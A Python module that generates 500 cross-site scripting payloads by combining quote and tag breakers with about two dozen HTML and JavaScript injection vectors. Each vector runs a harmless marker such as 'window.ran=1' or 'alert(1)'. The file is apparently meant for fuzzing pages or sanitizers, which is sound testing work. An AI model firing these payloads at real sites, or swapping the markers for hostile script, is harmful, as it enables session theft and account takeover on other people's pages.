"""Five hundred ways to make a page run what a stranger wrote: each tells `window.ran`, or shows a dialog."""

from itertools import product

BREAKERS = ("", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "{{7*7}}", "`}")

RUNS = ("window.ran=1", "alert(1)", "top.ran=1", "self['ran']=1")

ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onpageshow={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<math><mtext></mtext><style><img src=x onerror={}></style></math>",
    "<form><button formaction=javascript:{} autofocus onfocus={}>x</button></form>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<marquee onstart={}>x</marquee>",
    "<div hx-on:load={} hx-trigger=load hx-get=/healthz>x</div>",
    "<template><script>{}</script></template><noscript><img src=x onerror={}></noscript>",
    " autofocus onfocus={} x=",
    "javascript:{}//",
    "\N{FULLWIDTH LESS-THAN SIGN}script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
)

COUNT = 500


def payloads() -> list[str]:
    """COUNT different ones, each breaker and each element among them."""
    every = [breaker + element.replace("{}", run) for run, element, breaker in product(RUNS, ELEMENTS, BREAKERS)]
    step = len(every) / COUNT
    return [every[int(number * step)] for number in range(COUNT)]


def bundles(limit: int) -> list[str]:
    """All of them, as texts of at most so many characters."""
    texts = [""]
    for payload in payloads():
        if len(texts[-1]) + len(payload) > limit:
            texts.append("")
        texts[-1] += payload
    return texts
